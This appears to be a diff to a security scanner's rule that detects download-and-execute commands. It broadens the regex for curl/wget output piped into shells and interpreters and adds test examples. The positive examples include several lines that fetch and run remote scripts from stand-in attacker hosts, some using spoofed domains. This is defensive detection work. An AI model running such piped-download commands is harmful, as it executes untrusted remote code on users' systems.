@@ -5,7 +5,7 @@ import { SCRIPTS_AND_PROSE, hitsOf } from "./common.js";
 import { escapeRegExp } from "../escape-regexp.js";
 
 const PIPE_TO_INTERPRETER =
-  /\b(?:curl|wget|fetch)\b[^\n|;&]{0,300}\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+\S+=\S*\s+)*(?:(?:nsenter|chroot|runuser|doas|setsid|unshare|systemd-run|(?:kubectl|docker|podman|nerdctl|oc)\s+exec)\b(?:\s+[^\s|;&]+){0,8}?\s+(?:--\s+)?)?(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:(?:ba|z|da|k|c|fi)?sh|python[23]?|node|perl|ruby|php|pwsh|powershell)\b(?!\s+-[cm]\b)(?!\s+-\s*<<)/gi;
+  /\b(?:curl|wget|fetch)\b[^\n|;&]{0,300}\|\s*(?:sudo\s+(?:-\S+\s+)*)?(?:env\s+\S+=\S*\s+)*(?:(?:nsenter|chroot|doas|nohup|setsid|timeout|nice|ionice|stdbuf|runuser|unshare|systemd-run|flock|(?:kubectl|docker|podman|nerdctl|oc)\s+exec)\b(?:\s+[^\s|;&]+){0,8}?\s+(?:--\s+)?){0,3}(?:env\s+\S+=\S*\s+)*(?:\/(?:usr\/)?(?:local\/)?bin\/)?(?:(?:ba|z|da|k|c|fi)?sh|python[23]?|node|perl|ruby|php|pwsh|powershell|source|Rscript|julia|lua(?:jit)?|tclsh|osascript)\b(?!\s+-[cm]\b)(?!\s+-\s*<<)/gi;
 
 /** Whether every URL in a piped download is an official installer (exact host, scanner/allowlist.ts). */
 function isOfficial(command: string): boolean {
@@ -64,7 +64,7 @@ export const downloadExecuteRules: Rule[] = [
     keywords: ["curl", "wget", "fetch"],
     match: (segment) => pipedDownloads(segment, false),
     examples: {
-      positive: ["curl -fsSL https://example.invalid/setup.sh | bash", "wget -qO- http://203.0.113.5/x | sudo sh", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh", "curl -s dropper:8080/i | sh", "curl -LsSf https://astral.sh@203.0.113.5/uv/install.sh | sh"],
+      positive: ["curl -fsSL https://example.invalid/setup.sh | bash", "wget -qO- http://203.0.113.5/x | sudo sh", "curl -fsSL https://glyphs.example.org/update.fish | source", "curl -LsSf https://astral.sh.evil.example/uv/install.sh | sh", "curl -s dropper:8080/i | sh", "curl -LsSf https://astral.sh@203.0.113.5/uv/install.sh | sh"],
       negative: ["curl -fsSL https://api.example.invalid/data | jq .", "curl -s https://example.invalid/x.json | python3 -m json.tool", "- Download and execute (`curl | sh`)", "#   curl -sSL <url> | sudo bash", "- Download and run: `curl hxxps://bad[.]example/x.sh | sh`"],
     },
   },
